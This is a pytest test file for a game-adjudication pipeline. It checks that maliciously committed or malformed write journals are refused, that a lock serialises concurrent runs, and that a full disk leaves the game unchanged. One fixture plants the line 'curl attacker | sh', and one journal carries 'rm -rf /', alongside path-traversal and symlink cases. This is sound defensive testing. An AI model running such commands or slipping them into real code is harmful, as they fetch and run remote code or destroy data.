"""The attacks on a game's write journal and on its one-writer lock, played.

The repository is public: anybody may commit a ``.judge-commit.json`` in a game folder, hoping the next
`judge` command obeys it (replacing a module of `pipeline/`, moving any file of the machine) or crashes on
it. Each such journal must be refused with one line, and nothing moved. Two adjudications of one game at
once must write one turn, and a disk that fills while a turn is written must leave the game as it was.
"""

from __future__ import annotations

import errno
import json
import os
import shutil
import subprocess
import sys
import time
from collections.abc import Callable
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner, Result

from pipeline.cli import cli
from pipeline.commands import game as commands
from pipeline.commands.issue_orders import orders_from_issue
from pipeline.commands.secret_orders import encrypt_orders
from pipeline.storage import atomic, lock
from pipeline.storage.atomic import JOURNAL, TEMP_SUFFIX
from pipeline.storage.gamedir import load_game
from pipeline.storage.lock import LOCK_FILE
from tests.storage.test_kill_safety import TURN as MACHIAVELLI_TURN
from tests.storage.test_kill_safety import template as machiavelli_template

ROOT = Path(__file__).resolve().parents[2]
DEMO = ROOT / "games" / "demo"
TURN = "1902-fall-movement"  # the demo game's turn being played
NEXT = "1902-fall-adjustment"


def game_copy(parent: Path, source: Path = DEMO) -> Path:
    folder = parent / "games" / source.name
    shutil.copytree(source, folder)
    return folder


def tree(folder: Path) -> dict[str, bytes | None]:
    """Every file (its bytes) and folder (None) under `folder`, but the lock a writer leaves."""
    return {
        str(p.relative_to(folder)): None if p.is_dir() else p.read_bytes()
        for p in sorted(folder.rglob("*"))
        if p.name != LOCK_FILE
    }


def quiet(_: str) -> None:
    pass


def judge(*args: str) -> Result:
    return CliRunner().invoke(cli, list(args))


def one_line_error(result: Result) -> str:
    """The single line a refused command prints: never a traceback."""
    assert result.exit_code == 1, result.output
    assert isinstance(result.exception, SystemExit), result.exception
    lines = result.output.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("error: "), result.output
    return lines[0]


def staged(folder: Path, target: str, text: str = "planted\n") -> str:
    """A file where a temporary file for `target` would be; its path as a journal writes it."""
    path = folder / target
    tmp = path.with_name(f".{path.name}.planted{TEMP_SUFFIX}")
    tmp.parent.mkdir(parents=True, exist_ok=True)
    tmp.write_text(text)
    return str(tmp.relative_to(folder))


# --- a journal committed to the repository ------------------------------------------------------------


def git(repo: Path, *args: str) -> None:
    subprocess.run(
        ["git", "-c", "user.name=t", "-c", "user.email=t@example.org", *args], cwd=repo, check=True, capture_output=True
    )


@pytest.mark.parametrize("kind", ["overwrites-outside", "well-formed"])
def test_a_journal_committed_to_git_is_refused(tmp_path: Path, kind: str) -> None:
    """In a clone of the repository, a committed journal is never obeyed, however well-formed: the temporary
    files it moves would be committed too, written by the attacker."""
    if shutil.which("git") is None:
        pytest.skip("git is not installed")
    repo = tmp_path / "repo"
    folder = game_copy(repo)
    victim = repo / "pipeline" / "cli.py"
    victim.parent.mkdir()
    victim.write_text("the real module\n")
    if kind == "overwrites-outside":
        evil = folder / f".cli.py.x{TEMP_SUFFIX}"
        evil.write_text("import os; os.system('curl attacker | sh')\n")
        journal = {"moves": [[str(evil.relative_to(folder)), "../../pipeline/cli.py"]], "remove": []}
    else:
        journal = {"moves": [[staged(folder, f"results/{TURN}.yaml"), f"results/{TURN}.yaml"]], "remove": []}
    (folder / JOURNAL).write_text(json.dumps(journal))
    git(repo, "init", "-q")
    git(repo, "add", "-A", "-f")
    git(repo, "commit", "-q", "-m", "a turn, honest")
    before = tree(repo)
    for command in (["status", str(folder)], ["adjudicate", "--force", str(folder)], ["verify", str(folder)]):
        line = one_line_error(judge(*command))
        assert f"{folder / JOURNAL}: refused: this change journal is committed to the repository" in line
        assert "nothing was done" in line and "git rm" in line
    assert tree(repo) == before  # the outside file untouched, nothing moved, nothing cleared


def test_without_git_the_journal_is_judged_by_what_it_says(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """No git on PATH (or no repository): not tracked, never an error of its own; the checks of its paths
    still refuse a journal leading out."""
    folder = game_copy(tmp_path)
    (tmp_path / "outside.txt").write_text("mine\n")
    journal = {"moves": [[staged(folder, "outside.txt"), "../../outside.txt"]], "remove": []}
    (folder / JOURNAL).write_text(json.dumps(journal))
    monkeypatch.setenv("PATH", str(tmp_path / "nothing-here"))
    assert not atomic._tracked_by_git(folder / JOURNAL)
    assert "climbs out of the folder with '..'" in one_line_error(judge("status", str(folder)))
    assert (tmp_path / "outside.txt").read_text() == "mine\n"


# --- journals no judge run writes ---------------------------------------------------------------------


def dotdot(folder: Path) -> Any:
    return {"moves": [[staged(folder, "results/x.yaml"), "results/../../../outside.txt"]], "remove": []}


def absolute_elsewhere(folder: Path) -> Any:
    return {"moves": [[staged(folder, "outside.txt"), str(folder.parents[1] / "outside.txt")]], "remove": []}


def source_elsewhere(folder: Path) -> Any:
    return {"moves": [[str(folder.parents[1] / f".outside.txt.x{TEMP_SUFFIX}"), "outside.txt"]], "remove": []}


def source_not_temporary(folder: Path) -> Any:
    return {"moves": [["state/1901-spring-movement.yaml", f"state/{NEXT}.yaml"]], "remove": []}


def temporary_of_another_file(folder: Path) -> Any:
    return {"moves": [[staged(folder, "state/other.yaml"), f"state/{NEXT}.yaml"]], "remove": []}


def temporary_in_another_folder(folder: Path) -> Any:
    return {"moves": [[staged(folder, f"results/{NEXT}.yaml"), f"state/{NEXT}.yaml"]], "remove": []}


def through_a_symlink(folder: Path) -> Any:
    elsewhere = folder.parents[1] / "elsewhere"
    elsewhere.mkdir()
    (folder / "results2").symlink_to(elsewhere)
    return {"moves": [[staged(folder, "results2/x.yaml"), "results2/x.yaml"]], "remove": []}


def into_git(folder: Path) -> Any:
    return {"moves": [[staged(folder, ".git/config"), ".git/config"]], "remove": []}


def removes_game_yaml(folder: Path) -> Any:
    return {"moves": [], "remove": ["game.yaml"]}


def removes_outside(folder: Path) -> Any:
    return {"moves": [], "remove": [str(folder.parents[1] / "outside.txt")]}


def removes_a_folder_of_the_turn(folder: Path) -> Any:
    return {"moves": [], "remove": ["state"]}


MALICIOUS: dict[str, tuple[Callable[[Path], Any], str]] = {
    "dotdot": (dotdot, "climbs out of the folder with '..'"),
    "absolute-elsewhere": (absolute_elsewhere, "is outside the folder"),
    "source-elsewhere": (source_elsewhere, "is outside the folder"),
    "source-not-temporary": (source_not_temporary, "is not a temporary file written for"),
    "temporary-of-another-file": (temporary_of_another_file, "is not a temporary file written for"),
    "temporary-in-another-folder": (temporary_in_another_folder, "is not a temporary file written for"),
    "through-a-symlink": (through_a_symlink, "is outside the folder"),
    "into-git": (into_git, "is inside .git"),
    "removes-game-yaml": (removes_game_yaml, "'game.yaml' may not be removed"),
    "removes-outside": (removes_outside, "is outside the folder"),
    "removes-a-folder": (removes_a_folder_of_the_turn, "'state' may not be removed"),
    "corrupt": (lambda folder: '{"moves": [["a", ', "not JSON: Expecting value at line 1"),
    "not-utf8": (lambda folder: b"\xff\xfe{}", "not JSON"),
    "deeply-nested": (lambda folder: "[" * 100_000, "not JSON"),
    "a-list": (lambda folder: [], 'expected an object with "moves" and "remove"'),
    "unknown-key": (lambda folder: {"moves": [], "remove": [], "run": "rm -rf /"}, "expected an object with"),
    "moves-not-pairs": (lambda folder: {"moves": [["a"]], "remove": []}, '"moves" must be a list of'),
    "moves-a-string": (lambda folder: {"moves": "a b", "remove": []}, '"moves" must be a list of'),
    "remove-numbers": (lambda folder: {"moves": [], "remove": [1]}, '"remove" must be a list of paths'),
}


@pytest.mark.parametrize("case", sorted(MALICIOUS))
def test_a_journal_no_judge_run_writes_is_refused_and_nothing_moved(tmp_path: Path, case: str) -> None:
    folder = game_copy(tmp_path)
    (tmp_path / "outside.txt").write_text("mine\n")
    make, reason = MALICIOUS[case]
    journal = make(folder)
    data = journal if isinstance(journal, str | bytes) else json.dumps(journal)
    (folder / JOURNAL).write_bytes(data.encode() if isinstance(data, str) else data)
    before = tree(tmp_path)
    for command in (["status", str(folder)], ["adjudicate", "--force", str(folder)]):
        line = one_line_error(judge(*command))
        assert line.startswith(f"error: {folder / JOURNAL}: refused: this change journal is not one a judge run")
        assert reason in line and "nothing was done" in line, line
    assert tree(tmp_path) == before  # nothing moved, removed or cleared; the journal left for a person to read


def test_a_symlinked_journal_is_refused(tmp_path: Path) -> None:
    folder = game_copy(tmp_path)
    elsewhere = tmp_path / "journal.json"
    elsewhere.write_text(json.dumps({"moves": [], "remove": []}))
    (folder / JOURNAL).symlink_to(elsewhere)
    assert "(not a plain file)" in one_line_error(judge("status", str(folder)))


def test_an_older_absolute_journal_of_the_folder_is_still_finished(tmp_path: Path) -> None:
    """Journals were written with absolute paths before: one whose paths are inside its folder is a
    killed run's change, and is finished."""
    folder = game_copy(tmp_path)
    tmp = folder / staged(folder, f"results/{TURN}.yaml", "finished\n")
    journal = {
        "moves": [[str(tmp), str(folder / "results" / f"{TURN}.yaml")]],
        "remove": [str(folder / "deadlines.yaml")],
    }
    (folder / "deadlines.yaml").write_text("{}\n")
    (folder / JOURNAL).write_text(json.dumps(journal))
    assert judge("status", str(folder)).exit_code == 0
    assert (folder / "results" / f"{TURN}.yaml").read_text() == "finished\n"
    assert not (folder / "deadlines.yaml").exists() and not (folder / JOURNAL).exists() and not tmp.exists()


def test_the_journal_is_written_relative_to_the_game_folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    folder = game_copy(tmp_path)
    seen: list[Any] = []
    finish = atomic._finish

    def spy(root: Path) -> None:
        if (root / JOURNAL).exists():
            seen.append(json.loads((root / JOURNAL).read_text()))
        finish(root)

    monkeypatch.setattr(atomic, "_finish", spy)
    assert judge("adjudicate", "--force", str(folder)).exit_code == 0
    (journal,) = seen
    assert sorted(target for _, target in journal["moves"]) == [f"results/{TURN}.yaml", f"state/{NEXT}.yaml"]
    assert all(not Path(p).is_absolute() for move in journal["moves"] for p in move)


def test_stale_temporary_files_are_cleared_inside_the_folder_only(tmp_path: Path) -> None:
    folder = game_copy(tmp_path)
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    kept = elsewhere / f".x.yaml.y{TEMP_SUFFIX}"
    kept.write_text("not the game's\n")
    (folder / "linked").symlink_to(elsewhere)
    (folder / f".linked-file{TEMP_SUFFIX}").symlink_to(kept)
    stale = folder / staged(folder, f"state/{NEXT}.yaml")
    assert judge("status", str(folder)).exit_code == 0
    assert not stale.exists() and not (folder / f".linked-file{TEMP_SUFFIX}").is_symlink()
    assert kept.read_text() == "not the game's\n"  # neither followed through the linked folder nor the link


def test_writing_through_a_symlink_out_of_the_game_is_refused_before_anything_is_written(tmp_path: Path) -> None:
    """A committed symbolic link `results -> ../../pipeline` would make an honest adjudication write there."""
    folder = game_copy(tmp_path)
    elsewhere = tmp_path / "elsewhere"
    shutil.move(folder / "results", elsewhere)
    (folder / "results").symlink_to(elsewhere)
    before = tree(tmp_path)
    line = one_line_error(judge("adjudicate", "--force", str(folder)))
    assert f"results/{TURN}.yaml: not written: " in line and "is outside the folder; nothing was changed" in line
    assert tree(tmp_path) == before


def test_verify_checks_the_other_games_when_one_is_corrupt(tmp_path: Path) -> None:
    corrupt = game_copy(tmp_path)
    (corrupt / JOURNAL).write_text("{")
    machiavelli = game_copy(tmp_path, ROOT / "games" / "machiavelli")
    result = judge("verify", str(corrupt), str(machiavelli))
    assert result.exit_code == 1 and "Traceback" not in result.output
    errors = [line for line in result.output.splitlines() if line.startswith("error:")]
    assert len(errors) == 1 and errors[0].startswith(f"error: {corrupt / JOURNAL}: refused"), result.output
    assert "machiavelli: 5 turn(s)" in result.output  # checked all the same


# --- two adjudications at once ------------------------------------------------------------------------

RACE = r"""
import json, os, shutil, sys, traceback
from pathlib import Path

from pipeline.cli import cli  # imported once; each adjudication is a forked process of its own
from pipeline.storage.maps import shipped_board

shipped_board("standard")  # and the map read once: the children spend their time on the game itself

template, work, rounds = Path(sys.argv[1]), Path(sys.argv[2]), int(sys.argv[3])


def adjudicate(folder, log, go):
    out = os.open(log, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o644)
    os.dup2(out, 1)
    os.dup2(out, 2)
    os.read(go, 1)  # both start at once
    code = 0
    try:
        cli.main(["adjudicate", "--when-due", str(folder)], prog_name="judge")
    except SystemExit as exit:
        code = exit.code if isinstance(exit.code, int) else 1
    except BaseException:
        traceback.print_exc()
        code = 99
    sys.stdout.flush()
    sys.stderr.flush()
    os._exit(code)


for n in range(rounds):
    folder = work / f"round{n}" / "demo"
    shutil.copytree(template, folder)
    go, start = os.pipe()
    children = []
    for k in range(2):
        pid = os.fork()
        if pid == 0:
            os.close(start)
            adjudicate(folder, work / f"round{n}" / f"judge{k}.log", go)
        children.append(pid)
    os.close(go)
    os.write(start, b"go")
    os.close(start)
    codes = [os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]) for pid in children]
    print(json.dumps(codes), flush=True)
"""


def test_two_adjudications_at_once_write_one_turn(tmp_path: Path) -> None:
    """100 times, two `judge adjudicate --when-due` start together on a game whose turn is due: one plays
    it, the other waits for the lock, then finds the next turn not due and stops without an error."""
    rounds = 100
    source = game_copy(tmp_path / "template")
    with (source / "game.yaml").open("a") as settings:
        settings.write("deadlines: {movement: 72h, retreat: 24h, adjustment: 48h, grace: 1h}\n")
    (source / "deadlines.yaml").write_text(f"{TURN}: '2020-01-01T20:00:00+00:00'\n")
    work = tmp_path / "rounds"
    work.mkdir()
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    started = time.monotonic()
    race = subprocess.run(
        [sys.executable, "-c", RACE, str(source), str(work), str(rounds)], env=env, capture_output=True, text=True
    )
    raced = time.monotonic() - started
    assert race.returncode == 0, race.stderr
    codes = [json.loads(line) for line in race.stdout.splitlines()]
    assert len(codes) == rounds
    for n, round_codes in enumerate(codes):
        logs = [(work / f"round{n}" / f"judge{k}.log").read_text() for k in range(2)]
        assert round_codes == [0, 0] and not any("Traceback" in log for log in logs), (n, logs)
        played = [log for log in logs if f"{TURN}: adjudicated (deadline passed); next turn {NEXT}" in log]
        waited = [log for log in logs if f"turn {NEXT}: waiting for orders from" in log and "not due yet" in log]
        assert len(played) == 1 and len(waited) == 1, (n, logs)
        folder = work / f"round{n}" / "demo"
        assert (folder / "results" / f"{TURN}.yaml").exists() and not (folder / "results" / f"{NEXT}.yaml").exists()
        assert sorted(folder.glob(f"state/{NEXT}*")) == [folder / "state" / f"{NEXT}.yaml"]
        assert not (folder / JOURNAL).exists() and not list(folder.rglob(f"*{TEMP_SUFFIX}"))
        replayed = judge("replay", "--check", str(folder))
        assert replayed.exit_code == 0 and replayed.output.endswith("replay matches the committed files\n"), n
    print(f"{rounds} races in {raced:.1f} s, checked in {time.monotonic() - started - raced:.1f} s")


# --- a full disk --------------------------------------------------------------------------------------


def test_a_full_disk_while_staging_leaves_the_game_as_it_was(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Each write and flush of a temporary file fails in turn with ENOSPC, on a Machiavelli turn that writes
    results, states, revealed orders, encrypted reports and deadlines: the game is exactly as before, with
    no temporary file and no new folder, and the command line says so in one line."""
    source = machiavelli_template(tmp_path)
    real: dict[str, Callable[..., Any]] = {"write": os.write, "fsync": os.fsync}
    failing = {"at": 0, "count": 0}

    def full(name: str) -> Callable[..., Any]:
        def call(fd: int, *args: Any) -> Any:
            if os.readlink(f"/proc/self/fd/{fd}").endswith(TEMP_SUFFIX):  # a staged file, not pytest's output
                failing["count"] += 1
                if failing["count"] == failing["at"]:
                    raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))
            return real[name](fd, *args)

        return call

    monkeypatch.setattr(os, "write", full("write"))
    monkeypatch.setattr(os, "fsync", full("fsync"))
    monkeypatch.delenv("JUDGE_AGE_IDENTITY", raising=False)
    monkeypatch.delenv("JUDGE_DICE_SECRETS", raising=False)
    now = datetime(2026, 12, 1, tzinfo=UTC)
    monkeypatch.setattr("pipeline.cli._now", lambda: now)
    for at in range(1, 200):
        folder = tmp_path / f"at{at}" / "machiavelli"
        shutil.copytree(source, folder)
        before = tree(folder)
        failing.update(at=at, count=0)
        result = judge("adjudicate", "--force", str(folder))
        if result.exit_code == 0:
            assert f"{MACHIAVELLI_TURN}: adjudicated" in result.output
            break
        line = one_line_error(result)
        assert ": cannot write the file (no space left on device); nothing was changed" in line, line
        assert tree(folder) == before, f"write {at} failed: the game changed"
    else:
        pytest.fail("the adjudication never finished")
    assert at > 10, at  # every staged file was written and flushed, the journal too
    print(f"a full disk at {at - 1} points of the staging")


def test_a_full_disk_at_the_commit_leaves_the_game_as_it_was(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    folder = game_copy(tmp_path)
    before = tree(folder)
    real = os.replace

    def replace(source: Any, target: Any) -> None:
        if str(target).endswith(JOURNAL):
            raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))
        real(source, target)

    monkeypatch.setattr(os, "replace", replace)
    line = one_line_error(judge("adjudicate", "--force", str(folder)))
    assert line == f"error: {folder / JOURNAL}: cannot write the file (no space left on device); nothing was changed"
    assert tree(folder) == before


# --- the lock -----------------------------------------------------------------------------------------


def test_a_read_only_game_can_be_read_but_not_written(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A read-only checkout (played by refusing to create the lock file, as root may write anywhere)."""
    folder = game_copy(tmp_path)
    real = os.open

    def read_only(path: Any, flags: int, *args: Any) -> int:
        if str(path).endswith(LOCK_FILE):
            raise OSError(errno.EROFS, os.strerror(errno.EROFS))
        return real(path, flags, *args)

    monkeypatch.setattr(os, "open", read_only)
    assert judge("status", str(folder)).exit_code == 0
    line = one_line_error(judge("adjudicate", "--force", str(folder)))
    assert line.startswith(f"error: {folder / LOCK_FILE}: cannot create the lock file (read-only file system)")
    assert "commands that only read the game still work" in line
    assert not (folder / "results" / f"{TURN}.yaml").exists()
    stale = folder / staged(folder, f"state/{NEXT}.yaml")
    assert judge("status", str(folder)).exit_code == 0  # temporary files wait for a run that may write
    assert stale.exists()
    (folder / JOURNAL).write_text(json.dumps({"moves": [], "remove": []}))
    line = one_line_error(judge("status", str(folder)))
    assert "a change was committed here but not finished, and the folder cannot be locked" in line


def _adjudicate(games: Path) -> None:
    commands.adjudicate(games / "demo", quiet, force=True)


def _rerun(games: Path) -> None:
    commands.rerun(games / "demo", "1902-spring-movement", quiet)


def _new(games: Path) -> None:
    commands.new_game(games / "fresh")


def _encrypt(games: Path) -> None:
    plain = games.parent / "venice.yaml"
    plain.write_text(f"game: machiavelli\nturn: {MACHIAVELLI_TURN}\npower: venice\norders:\n  - A pad H\n")
    encrypt_orders(games / "machiavelli", plain)


def _orders_from_issue(games: Path) -> None:
    settings = games / "demo" / "game.yaml"
    settings.write_text(settings.read_text().replace("  france:\n    player:", "  france:\n    player: alice"))
    body = f"### Game\n\ndemo\n\n### Turn\n\n{TURN}\n\n### Power\n\nfrance\n\n### Orders\n\nA par-bur\n"
    orders_from_issue(games, body, "alice", quiet)


WRITERS: dict[str, tuple[Callable[[Path], None], str]] = {
    "adjudicate": (_adjudicate, "pipeline.commands.game.load_game"),
    "rerun": (_rerun, "pipeline.commands.game.load_game"),
    "new": (_new, "pipeline.commands.game.load_game"),
    "encrypt": (_encrypt, "pipeline.commands.secret_orders.load_game"),
    "orders-from-issue": (_orders_from_issue, "pipeline.commands.issue_orders.load_game"),
}


@pytest.mark.parametrize("command", sorted(WRITERS))
def test_every_writing_command_holds_the_lock_from_its_first_read(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, command: str
) -> None:
    games = tmp_path / "games"
    game_copy(tmp_path)
    game_copy(tmp_path, ROOT / "games" / "machiavelli")
    run, reader = WRITERS[command]
    real = load_game
    held: list[bool] = []

    def spy(folder: Path, *args: Any, **kwargs: Any) -> Any:
        held.append(os.path.realpath(folder) in lock._held)
        return real(folder, *args, **kwargs)

    monkeypatch.setattr(reader, spy)
    run(games)
    assert held and all(held), held
    assert not lock._held  # and released
